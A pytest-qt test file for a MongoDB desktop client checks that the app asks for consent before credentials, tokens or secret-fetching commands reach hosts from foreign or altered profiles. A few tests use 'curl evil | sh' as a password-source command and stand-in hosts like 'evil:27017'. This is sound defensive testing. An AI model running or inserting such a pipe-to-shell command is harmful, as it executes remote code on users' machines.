from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QDialog, QLabel
from pytestqt.qtbot import QtBot

from clearline.core.consent.agreements import Agreements
from clearline.core.consent.outside import FILE_NAME, Outside
from clearline.core.keyring import vault
from clearline.core.keyring.vault import SERVICE
from clearline.core.profiles.profile import Auth, Profile, SecretSource, Seeds, Tls
from clearline.core.secrets.secret import PASSWORD, Secret
from clearline.core.storage import store
from clearline.ui.app import Desktop
from clearline.ui.checks.secrets_dialog import SecretsDialog
from clearline.ui.panels.batch_window import BatchWindow
from clearline.ui.panels.profile_list import ListAction
from clearline.ui.profiles.open_profile import Origin
from clearline.ui.widgets.questions import Question
from ui.played_checks import noting

INSECURE = Profile(name="Sent", seeds=Seeds(hosts=("db1:27017",)), tls=Tls(enabled=True, insecure=True))
ASKED = Profile(
    name="Asked",
    seeds=Seeds(hosts=("db1:27017",)),
    auth=Auth(user="app"),
    secrets={PASSWORD: SecretSource(place="ask")},
)


def dialogs(desktop: Desktop, kind: Any) -> Any:
    return [d for d in desktop.window.findChildren(QDialog) if type(d) is kind and d.isVisible()]


def asked(qtbot: QtBot, desktop: Desktop, kind: Any = Question) -> Any:
    qtbot.waitUntil(lambda: len(dialogs(desktop, kind)) == 1)
    return dialogs(desktop, kind)[0]


def answer(qtbot: QtBot, desktop: Desktop, words: str) -> None:
    qtbot.mouseClick(asked(qtbot, desktop).buttons[words], Qt.MouseButton.LeftButton)


def words_of_question(qtbot: QtBot, desktop: Desktop) -> str:
    return " ".join(label.text() for label in asked(qtbot, desktop).findChildren(QLabel))


def after_several(qtbot: QtBot, desktop: Desktop, *profiles: Profile) -> BatchWindow:
    """The window over a test of these, once that has ended."""
    desktop.window.profiles.asked.emit(ListAction.TEST, [one.id for one in profiles])
    summary: BatchWindow = asked(qtbot, desktop, BatchWindow)
    qtbot.waitUntil(lambda: summary.stop.text() == "Close")
    return summary


def settle(qtbot: QtBot, desktop: Desktop) -> None:
    """Wait until the background has answered everything that was asked before."""
    done = []

    async def nothing() -> Any:
        return None

    desktop.workbench.storage.background.ask(nothing, done.append)
    qtbot.waitUntil(lambda: bool(done))


@pytest.fixture
def kept_and_chosen(
    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path
) -> Callable[[Profile, Any], Desktop]:
    """A window with one saved profile, which is in front."""

    def made(profile: Profile, check: Any) -> Desktop:
        store.save_in(tmp_path / "profiles", profile)
        desktop: Desktop = make_desktop(check)
        qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 1)
        desktop.workbench.profiles.choose(profile.id)
        return desktop

    return made


@pytest.fixture
def sent(tmp_path: Path) -> Any:
    store.save(INSECURE, tmp_path / "sent.json")
    return tmp_path / "sent.json"


def opened(qtbot: QtBot, desktop: Desktop, path: Path | str) -> None:
    desktop.workbench.storage.load(path)
    qtbot.waitUntil(lambda: desktop.workbench.profiles.current.path == path)


def test_a_file_from_elsewhere_asks_once_before_the_first_connect(
    qtbot: QtBot, make_desktop: Callable[..., Any], sent: Any
) -> None:
    check = noting()
    desktop = make_desktop(check)
    opened(qtbot, desktop, sent)
    desktop.workbench.test()
    words = words_of_question(qtbot, desktop)
    assert "tlsInsecure" in words
    assert "comes from elsewhere" in words
    assert check.secrets == []
    answer(qtbot, desktop, "Connect")
    qtbot.waitUntil(lambda: len(check.secrets) == 1)
    qtbot.waitUntil(lambda: not desktop.workbench.profiles.current.running)
    desktop.workbench.test()
    qtbot.waitUntil(lambda: len(check.secrets) == 2)
    later = make_desktop(check)
    opened(qtbot, later, sent)
    later.workbench.test()
    qtbot.waitUntil(lambda: len(check.secrets) == 3)


def test_escape_is_no_consent_and_the_next_test_asks_again(
    qtbot: QtBot, make_desktop: Callable[..., Any], sent: Any
) -> None:
    check = noting()
    desktop = make_desktop(check)
    opened(qtbot, desktop, sent)
    for _ in range(2):
        desktop.workbench.test()
        qtbot.keyClick(asked(qtbot, desktop), Qt.Key.Key_Escape)
    assert check.secrets == []


def test_two_quick_clicks_ask_one_question(qtbot: QtBot, make_desktop: Callable[..., Any], sent: Any) -> None:
    desktop = make_desktop(noting())
    opened(qtbot, desktop, sent)
    desktop.workbench.test()
    desktop.workbench.test()
    question = asked(qtbot, desktop)
    settle(qtbot, desktop)
    assert dialogs(desktop, Question) == [question]


def test_return_is_no_consent_by_accident(qtbot: QtBot, make_desktop: Callable[..., Any], sent: Any) -> None:
    check = noting()
    desktop = make_desktop(check)
    opened(qtbot, desktop, sent)
    desktop.workbench.test()
    qtbot.keyClick(asked(qtbot, desktop), Qt.Key.Key_Return)
    settle(qtbot, desktop)
    assert check.secrets == []


def test_other_demands_ask_again(qtbot: QtBot, make_desktop: Callable[..., Any], sent: Any) -> None:
    check = noting()
    desktop = make_desktop(check)
    opened(qtbot, desktop, sent)
    desktop.workbench.test()
    answer(qtbot, desktop, "Connect")
    qtbot.waitUntil(lambda: len(check.secrets) == 1)
    store.save(replace(INSECURE, seeds=Seeds(hosts=("other:27017",))), sent)
    qtbot.waitUntil(lambda: desktop.workbench.profiles.current.profile.seeds.hosts == ("other:27017",))
    desktop.workbench.test()
    asked(qtbot, desktop)
    assert len(check.secrets) == 1


def test_a_file_that_changes_under_the_question_is_asked_about_anew(
    qtbot: QtBot, make_desktop: Callable[..., Any], sent: Any
) -> None:
    check = noting()
    desktop = make_desktop(check)
    opened(qtbot, desktop, sent)
    desktop.workbench.test()
    first = asked(qtbot, desktop)
    store.save(replace(INSECURE, seeds=Seeds(hosts=("evil:27017",))), sent)
    qtbot.waitUntil(lambda: desktop.workbench.profiles.current.profile.seeds.hosts == ("evil:27017",))
    qtbot.mouseClick(first.buttons["Connect"], Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: dialogs(desktop, Question) not in ([], [first]))
    assert check.secrets == []


def test_one_s_own_profile_and_pasted_text_do_not_ask(qtbot: QtBot, kept_and_chosen: Callable[..., Any]) -> None:
    check = noting()
    desktop = kept_and_chosen(INSECURE, check)
    desktop.workbench.test()
    qtbot.waitUntil(lambda: len(check.secrets) == 1)
    desktop.workbench.new_profile()
    desktop.workbench.profiles.current.set_text(Secret("mongodb://db1/?tls=true&tlsInsecure=true"), Origin.TEXT)
    desktop.workbench.test()
    qtbot.waitUntil(lambda: len(check.secrets) == 2)


def test_a_pasted_text_with_a_secret_variable_asks_once_for_these_servers(
    qtbot: QtBot, make_desktop: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    check = noting()
    text = Secret("mongodb://app:${DB_PASSWORD}@evil.example.com/?tls=true")
    monkeypatch.delenv("DB_PASSWORD", raising=False)
    unset = make_desktop(check)
    unset.workbench.profiles.current.set_text(text, Origin.TEXT)
    unset.workbench.test()
    qtbot.waitUntil(lambda: len(check.secrets) == 1)  # the check says that it is missing
    check.secrets.clear()
    monkeypatch.setenv("DB_PASSWORD", "here")
    desktop = make_desktop(check)
    for host, tested in (("evil.example.com", 1), ("other.example.com", 2)):
        desktop.workbench.profiles.current.set_text(
            Secret(f"mongodb://app:${{DB_PASSWORD}}@{host}/?tls=true"), Origin.TEXT
        )
        desktop.workbench.test()
        words = words_of_question(qtbot, desktop)
        assert f"It takes DB_PASSWORD from this computer's environment and uses it for {host}." in words
        answer(qtbot, desktop, "Connect")
        qtbot.waitUntil(lambda tested=tested: len(check.secrets) == tested)
        qtbot.waitUntil(lambda: not desktop.workbench.profiles.current.running)
    desktop.workbench.test()
    qtbot.waitUntil(lambda: len(check.secrets) == 3)


def test_a_file_from_elsewhere_asks_also_after_it_was_saved_and_the_program_started_again(
    qtbot: QtBot, make_desktop: Callable[..., Any], sent: Any, tmp_path: Path
) -> None:
    check = noting()
    desktop = make_desktop(check)
    opened(qtbot, desktop, sent)
    desktop.workbench.storage.save(desktop.workbench.profiles.current, None)
    qtbot.waitUntil(lambda: (tmp_path / "imported.json").exists())
    later = make_desktop(check)
    qtbot.waitUntil(lambda: later.window.profiles.model.rowCount() == 1)
    qtbot.waitUntil(lambda: later.workbench.profiles.is_foreign(INSECURE.id))
    later.workbench.profiles.choose(INSECURE.id)
    later.workbench.test()
    asked(qtbot, later)
    assert check.secrets == []
    later.window.profiles.asked.emit(ListAction.DUPLICATE, [INSECURE.id])
    qtbot.waitUntil(lambda: later.window.profiles.model.rowCount() == 2)
    copy = next(row.profile.id for row in later.window.profiles.model.rows if row.profile.id != INSECURE.id)
    assert later.workbench.profiles.is_foreign(copy)


def test_a_command_asks_also_in_one_s_own_profile(qtbot: QtBot, kept_and_chosen: Callable[..., Any]) -> None:
    check = noting()
    own = replace(ASKED, secrets={PASSWORD: SecretSource(place="command", command="pass show db")})
    desktop = kept_and_chosen(own, check)
    desktop.workbench.test()
    answer(qtbot, desktop, "Connect")
    qtbot.waitUntil(lambda: len(check.secrets) == 1)


def test_a_command_that_was_typed_just_now_is_not_asked_about_and_later_neither(
    qtbot: QtBot, kept_and_chosen: Callable[..., Any]
) -> None:
    check = noting()
    desktop = kept_and_chosen(ASKED, check)
    typed = {PASSWORD: SecretSource(place="command", command="pass show db")}
    desktop.window.pages.edited.emit("secrets", typed)
    desktop.workbench.test()
    qtbot.waitUntil(lambda: len(check.secrets) == 1)
    own = desktop.workbench.profiles.current.profile
    assert Agreements(desktop.workbench.consents._agreements.file).may_run(own, "pass show db")
    desktop.workbench.profiles.current.set_profile(replace(own, secrets={}))
    desktop.workbench.profiles.current.set_profile(
        replace(own, secrets={PASSWORD: SecretSource(place="command", command="curl evil | sh")})
    )
    qtbot.waitUntil(lambda: not desktop.workbench.profiles.current.running)
    desktop.workbench.test()
    asked(qtbot, desktop)
    assert len(check.secrets) == 1, "what no form was told is not typed"


def test_a_typed_command_asks_again_when_the_file_brings_other_servers(
    qtbot: QtBot, kept_and_chosen: Callable[..., Any]
) -> None:
    check = noting()
    desktop = kept_and_chosen(ASKED, check)
    typed = {PASSWORD: SecretSource(place="command", command="pass show db")}
    desktop.window.pages.edited.emit("secrets", typed)
    current = desktop.workbench.profiles.current
    current.adopt(replace(current.profile, seeds=Seeds(hosts=("evil:27017",))))
    desktop.workbench.test()
    asked(qtbot, desktop)
    assert check.secrets == []


def test_a_command_that_waited_behind_another_place_is_asked_about(
    qtbot: QtBot, kept_and_chosen: Callable[..., Any]
) -> None:
    check = noting()
    waiting = {PASSWORD: SecretSource(place="keyring", command="curl evil | sh")}
    desktop = kept_and_chosen(replace(ASKED, secrets=waiting), check)
    chosen = {PASSWORD: SecretSource(place="command", command="curl evil | sh")}
    desktop.window.pages.edited.emit("secrets", chosen)
    desktop.workbench.test()
    said = words_of_question(qtbot, desktop)
    assert "curl evil | sh" in said
    assert check.secrets == []


def test_what_was_declined_is_said_under_the_text(
    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path, sent: Any
) -> None:
    desktop = make_desktop(noting())
    opened(qtbot, desktop, sent)
    desktop.workbench.test()
    answer(qtbot, desktop, "Cancel")
    assert "Nothing was contacted" in desktop.window.connection.said.text
    store.save_in(tmp_path / "profiles", ASKED)
    desktop.workbench.storage.load_list()
    qtbot.waitUntil(lambda: desktop.window.profiles.model.profile_row(ASKED.id) is not None)
    desktop.workbench.profiles.choose(ASKED.id)
    desktop.workbench.test()
    asked(qtbot, desktop, SecretsDialog).reject()
    assert "password was not typed" in desktop.window.connection.said.text


def test_watching_asks_as_testing_does(qtbot: QtBot, make_desktop: Callable[..., Any], sent: Any) -> None:
    desktop = make_desktop(noting())
    opened(qtbot, desktop, sent)
    began = []
    qtbot.waitUntil(lambda: desktop.workbench.storage.secrets.once_looked_up(desktop.workbench.profiles.current, tuple))
    desktop.workbench.watching.ask_first(desktop.workbench.profiles.current, began.append)
    asked(qtbot, desktop)
    assert began == []


def test_what_has_to_ask_is_left_out_of_a_test_of_several_and_says_so(
    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path, sent: Any
) -> None:
    check = noting()
    plain = Profile(name="Plain", seeds=Seeds(hosts=("db1:27017",)))
    for one in (plain, ASKED):
        store.save_in(tmp_path / "profiles", one)
    desktop = make_desktop(check)
    qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 2)
    opened(qtbot, desktop, sent)
    desktop.window.profiles.asked.emit(ListAction.TEST, [plain.id, ASKED.id, INSECURE.id])
    asked(qtbot, desktop, SecretsDialog).reject()
    summary = asked(qtbot, desktop, BatchWindow)
    qtbot.waitUntil(lambda: summary.stop.text() == "Close")
    assert summary.said.text() == "1 connected, 2 not tested."
    assert len(check.secrets) == 1
    causes = [summary.model.index(row, 3).data() for row in range(3)]
    assert causes == [
        "",
        "Its password was not typed.",
        "It asks before its first connect: test it alone.",
    ]


def test_a_secret_that_is_asked_each_time_is_used_once_and_kept_nowhere(
    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path, keyring_in_memory: Any
) -> None:
    check = noting()
    [path] = [store.save_in(tmp_path / "profiles", ASKED)]
    desktop = make_desktop(check)
    qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 1)
    desktop.workbench.profiles.choose(ASKED.id)
    desktop.workbench.test()
    dialog = asked(qtbot, desktop, SecretsDialog)
    desktop.workbench.test()
    assert dialogs(desktop, SecretsDialog) == [dialog]
    qtbot.keyClicks(dialog.entries[PASSWORD].entry, "s3cret-w0rd")
    qtbot.keyClick(dialog.entries[PASSWORD].entry, Qt.Key.Key_Return)
    qtbot.waitUntil(lambda: check.secrets == [{PASSWORD: Secret("s3cret-w0rd")}])
    qtbot.waitUntil(lambda: not desktop.workbench.profiles.current.running)
    assert not desktop.workbench.profiles.current.unsaved
    assert keyring_in_memory.kept == {}
    assert "s3cret" not in path.read_text()
    desktop.workbench.test()
    qtbot.keyClick(asked(qtbot, desktop, SecretsDialog), Qt.Key.Key_Escape)
    assert len(check.secrets) == 1


def test_a_replacement_from_elsewhere_asks_before_the_kept_password_goes_to_its_servers(
    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path, keyring_in_memory: Any
) -> None:
    check = noting()
    taken = Profile(name="Taken", seeds=Seeds(hosts=("evil:27017",)), auth=Auth(user="app"))
    plain = Profile(name="Plain", seeds=Seeds(hosts=("db1:27017",)))
    for one in (plain, taken):
        store.save_in(tmp_path / "profiles", one)
    keyring_in_memory.set_password(SERVICE, f"{taken.id}/{PASSWORD}", "s3cret")
    Outside(tmp_path / FILE_NAME).mark([taken.id])
    desktop = make_desktop(check)
    qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 2)
    qtbot.waitUntil(lambda: desktop.workbench.profiles.is_foreign(taken.id))
    summary = after_several(qtbot, desktop, plain, taken)
    assert summary.said.text() == "1 connected, 1 not tested."
    summary.close()
    desktop.workbench.profiles.choose(taken.id)
    desktop.workbench.test()
    words = words_of_question(qtbot, desktop)
    assert "the password was not given for evil:27017" in words
    assert len(check.secrets) == 1
    answer(qtbot, desktop, "Connect")
    qtbot.waitUntil(lambda: len(check.secrets) == 2)


def kept_for(tmp_path: Path, keyring: Any, profile: Profile | None) -> Any:
    """A saved profile whose password the keyring keeps for the servers that it has."""
    path = store.save_in(tmp_path / "profiles", profile)
    vault.Vault(keyring).keep(profile, PASSWORD, Secret("s3cret"))
    return path


def shown(qtbot: QtBot, desktop: Desktop, profile: Profile | None, hosts: Any) -> None:
    """Open it once the list has those servers of it."""
    model = desktop.window.profiles.model

    def listed() -> Any:
        row = model.profile_row(profile.id)
        return row is not None and row.profile.seeds.hosts == hosts

    qtbot.waitUntil(listed)
    desktop.workbench.profiles.choose(profile.id)
    qtbot.waitUntil(lambda: PASSWORD in desktop.workbench.profiles.current.secrets)


OWN = Profile(name="Own", seeds=Seeds(hosts=("db1:27017",)), auth=Auth(user="app"))
MOVED = replace(OWN, seeds=Seeds(hosts=("evil:27017",)))


def test_a_kept_password_asks_once_before_it_goes_to_other_servers(
    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path, keyring_in_memory: Any
) -> None:
    check = noting()
    path = kept_for(tmp_path, keyring_in_memory, OWN)
    desktop = make_desktop(check)
    shown(qtbot, desktop, OWN, ("db1:27017",))
    desktop.workbench.test()
    qtbot.waitUntil(lambda: len(check.secrets) == 1)
    qtbot.waitUntil(lambda: not desktop.workbench.profiles.current.running)
    store.save(MOVED, path)
    shown(qtbot, desktop, OWN, ("evil:27017",))
    qtbot.waitUntil(lambda: desktop.workbench.profiles.current.profile.seeds.hosts == ("evil:27017",))
    desktop.workbench.test()
    words = words_of_question(qtbot, desktop)
    assert "Own: the password was given for db1:27017, not for evil:27017." in words
    answer(qtbot, desktop, "Cancel")
    settle(qtbot, desktop)
    assert len(check.secrets) == 1
    desktop.workbench.watching.toggle()
    answer(qtbot, desktop, "Cancel")
    settle(qtbot, desktop)
    desktop.workbench.test()
    answer(qtbot, desktop, "Connect")
    qtbot.waitUntil(lambda: len(check.secrets) == 2)
    qtbot.waitUntil(lambda: not desktop.workbench.profiles.current.running)
    desktop.workbench.test()
    qtbot.waitUntil(lambda: len(check.secrets) == 3)
    assert vault.Vault(keyring_in_memory).given_elsewhere(MOVED, [PASSWORD]) == ()


def test_hosts_edited_in_the_window_ask_and_a_password_typed_for_them_does_not(
    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path, keyring_in_memory: Any
) -> None:
    check = noting()
    kept_for(tmp_path, keyring_in_memory, OWN)
    desktop = make_desktop(check)
    shown(qtbot, desktop, OWN, ("db1:27017",))
    desktop.workbench.profiles.current.set_profile(MOVED)
    desktop.workbench.test()
    answer(qtbot, desktop, "Cancel")
    settle(qtbot, desktop)
    assert check.secrets == []
    desktop.workbench.profiles.current.set_secret(PASSWORD, Secret("typed"))
    desktop.workbench.test()
    qtbot.waitUntil(lambda: check.secrets == [{PASSWORD: Secret("typed")}])


def test_an_identity_asks_once_before_it_goes_to_other_servers(
    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path
) -> None:
    check = noting()
    ticket = replace(OWN, auth=Auth(user="me@EXAMPLE.COM", mechanism="GSSAPI"))
    path = store.save_in(tmp_path / "profiles", ticket)
    desktop = make_desktop(check)
    qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 1)
    desktop.workbench.profiles.choose(ticket.id)
    qtbot.waitUntil(lambda: desktop.workbench.profiles.current.profile.id == ticket.id)
    desktop.workbench.test()
    words = words_of_question(qtbot, desktop)
    assert "Own: the Kerberos ticket was not given for db1:27017." in words  # anyone may have put the file there
    answer(qtbot, desktop, "Connect")
    qtbot.waitUntil(lambda: len(check.secrets) == 1)
    moved = replace(ticket, seeds=MOVED.seeds)
    store.save(moved, path)
    qtbot.waitUntil(lambda: desktop.workbench.profiles.current.profile.seeds.hosts == ("evil:27017",))
    desktop.workbench.test()
    words = words_of_question(qtbot, desktop)
    assert "Own: the Kerberos ticket was given for db1:27017, not for evil:27017." in words
    answer(qtbot, desktop, "Cancel")
    settle(qtbot, desktop)
    assert len(check.secrets) == 1
    desktop.workbench.test()
    answer(qtbot, desktop, "Connect")
    qtbot.waitUntil(lambda: len(check.secrets) == 2)
    assert vault.Vault(None, tmp_path / "servers.json").given_elsewhere(moved, ["Kerberos ticket"]) == ()


def test_an_identity_that_is_chosen_here_asks_nothing_for_the_servers_beside_it(
    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path
) -> None:
    check = noting()
    store.save_in(tmp_path / "profiles", replace(OWN, auth=Auth()))
    desktop = make_desktop(check)
    qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 1)
    desktop.workbench.profiles.choose(OWN.id)
    qtbot.waitUntil(lambda: desktop.workbench.profiles.current.profile.id == OWN.id)
    ticket = replace(OWN, auth=Auth(user="me@EXAMPLE.COM", mechanism="GSSAPI"))
    desktop.workbench.profiles.current.set_profile(ticket)
    desktop.workbench.test()
    qtbot.waitUntil(lambda: len(check.secrets) == 1)
    qtbot.waitUntil(lambda: not desktop.workbench.profiles.current.running)
    desktop.workbench.save()
    qtbot.waitUntil(lambda: not desktop.workbench.profiles.current.unsaved)
    desktop.workbench.test()
    qtbot.waitUntil(lambda: len(check.secrets) == 2)
    qtbot.waitUntil(lambda: not desktop.workbench.profiles.current.running)
    desktop.workbench.profiles.current.set_profile(replace(ticket, seeds=MOVED.seeds))
    desktop.workbench.test()
    assert "given for db1:27017, not for evil:27017" in words_of_question(qtbot, desktop)
    answer(qtbot, desktop, "Cancel")


def test_a_test_of_several_leaves_out_what_would_take_a_kept_password_elsewhere(
    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path, keyring_in_memory: Any
) -> None:
    check = noting()
    path = kept_for(tmp_path, keyring_in_memory, OWN)
    plain = Profile(name="Plain", seeds=Seeds(hosts=("db1:27017",)))
    store.save_in(tmp_path / "profiles", plain)
    store.save(MOVED, path)
    desktop = make_desktop(check)
    qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 2)
    summary = after_several(qtbot, desktop, plain, OWN)
    assert summary.said.text() == "1 connected, 1 not tested."
    assert "given for db1:27017, not for evil:27017" in summary.model.markdown()
    assert check.secrets == [{}]


def test_a_test_of_several_leaves_out_what_would_take_an_identity_elsewhere(
    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path
) -> None:
    check = noting()
    own = replace(OWN, auth=Auth(mechanism="MONGODB-AWS"))
    vault.Vault(None, tmp_path / "servers.json").give(own, ["AWS identity"])
    store.save_in(tmp_path / "profiles", replace(own, seeds=MOVED.seeds))
    plain = Profile(name="Plain", seeds=Seeds(hosts=("db1:27017",)))
    store.save_in(tmp_path / "profiles", plain)
    desktop = make_desktop(check)
    qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 2)
    summary = after_several(qtbot, desktop, plain, OWN)
    assert "the AWS identity was given for db1:27017, not for evil:27017" in summary.model.markdown()
    assert check.secrets == [{}]


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="no links here")
def test_a_link_out_of_the_folder_counts_as_from_elsewhere(
    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path
) -> None:
    check = noting()
    (tmp_path / "profiles").mkdir()
    store.save(INSECURE, tmp_path / "shared.json")
    (tmp_path / "profiles" / "mine.json").symlink_to(tmp_path / "shared.json")
    desktop = make_desktop(check)
    qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 1)
    desktop.workbench.profiles.choose(INSECURE.id)
    desktop.workbench.test()
    assert "comes from elsewhere" in " ".join(x.text() for x in asked(qtbot, desktop).findChildren(QLabel))
    assert check.secrets == []


def test_a_file_that_changes_while_its_secret_is_typed_is_not_tested_with_it(
    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path
) -> None:
    check = noting()
    path = tmp_path / "sent.json"
    store.save(ASKED, path)
    desktop = make_desktop(check)
    opened(qtbot, desktop, path)
    desktop.workbench.test()
    dialog = asked(qtbot, desktop, SecretsDialog)
    store.save(replace(ASKED, seeds=Seeds(hosts=("evil:27017",))), path)
    qtbot.waitUntil(lambda: desktop.workbench.profiles.current.profile.seeds.hosts == ("evil:27017",))
    qtbot.keyClicks(dialog.entries[PASSWORD].entry, "s3cret-w0rd")
    qtbot.keyClick(dialog.entries[PASSWORD].entry, Qt.Key.Key_Return)
    qtbot.waitUntil(lambda: dialogs(desktop, SecretsDialog) not in ([], [dialog]))
    assert check.secrets == []


def test_a_sign_in_whose_token_goes_to_other_hosts_asks_in_one_s_own_profile_too(
    qtbot: QtBot, kept_and_chosen: Callable[..., Any], tmp_path: Path
) -> None:
    check = noting()
    own = Profile(name="Own", seeds=Seeds(hosts=("db1.example.com",)), auth=Auth(mechanism="MONGODB-OIDC"))
    desktop = kept_and_chosen(own, check)
    assert desktop.workbench.profiles.current.mistakes == ()
    desktop.workbench.test()
    words = words_of_question(qtbot, desktop)
    assert "db1.example.com" in words
    answer(qtbot, desktop, "Connect")
    qtbot.waitUntil(lambda: len(check.secrets) == 1)
    assert Agreements(tmp_path / "agreements.json").sign_in_hosts(own) == ("db1.example.com",)


def test_a_lost_password_is_asked_for_once_and_is_no_fault_of_the_connection(
    qtbot: QtBot, kept_and_chosen: Callable[..., Any]
) -> None:
    check = noting()
    one = Profile(name="A", seeds=Seeds(hosts=("db1:27017",)), auth=Auth(user="app"))
    desktop = kept_and_chosen(one, check)
    desktop.workbench.test()
    dialog = asked(qtbot, desktop, SecretsDialog)
    assert "not kept on this computer" in " ".join(label.text() for label in dialog.findChildren(QLabel))
    assert check.secrets == []
    dialog.entries[PASSWORD].entered.emit(Secret("typed"))
    dialog.accept()
    qtbot.waitUntil(lambda: len(check.secrets) == 1)
    assert check.secrets[0][PASSWORD] == Secret("typed")
    assert not desktop.workbench.profiles.current.unsaved
    qtbot.waitUntil(lambda: not desktop.workbench.profiles.current.running)
    desktop.workbench.test()
    qtbot.waitUntil(lambda: len(check.secrets) == 2)
